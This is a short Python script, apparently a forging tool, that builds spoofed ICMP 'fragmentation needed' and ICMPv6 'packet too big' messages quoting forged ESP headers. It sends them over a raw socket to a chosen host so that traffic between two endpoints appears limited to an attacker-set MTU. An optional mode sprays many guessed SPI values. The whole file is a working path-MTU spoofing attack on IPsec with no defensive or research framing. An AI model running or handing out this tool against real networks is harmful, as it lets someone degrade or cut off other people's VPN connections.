"""Claims by ICMP that ESP packets were too big: forge.py HOST SOURCE DESTINATION SPI MTU [COUNT].

HOST is told, about packets from SOURCE to DESTINATION. With COUNT so many other SPIs are guessed, from a seed, instead.
"""

import random
import socket
import struct
import sys

host, source, destination, spi, mtu = sys.argv[1:6]
count = int(sys.argv[6]) if len(sys.argv) > 6 else 0
family = socket.AF_INET6 if ":" in host else socket.AF_INET


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def quote(number):
    ends = socket.inet_pton(family, source) + socket.inet_pton(family, destination)
    esp = struct.pack("!II", number, 1)
    if family == socket.AF_INET6:
        return struct.pack("!IHBB", 6 << 28, 1400, 50, 64) + ends + esp
    return struct.pack("!BBHHHBBH", 0x45, 0, 1440, 1, 0x4000, 64, 50, 0) + ends + esp


def claim(number):
    if family == socket.AF_INET6:
        return struct.pack("!BBHI", 2, 0, 0, int(mtu)) + quote(number)  # the kernel sums up
    message = struct.pack("!BBHHH", 3, 4, 0, 0, int(mtu)) + quote(number)
    return message[:2] + struct.pack("!H", checksum(message)) + message[4:]


protocol = socket.IPPROTO_ICMPV6 if family == socket.AF_INET6 else socket.IPPROTO_ICMP
sender = socket.socket(family, socket.SOCK_RAW, protocol)
spis = [int(spi)]
if count:
    guesses = random.Random(int(spi))
    spis = [guess for guess in (guesses.getrandbits(32) for _ in range(count)) if guess != int(spi)]
for each in spis:
    sender.sendto(claim(each), (host, 0))
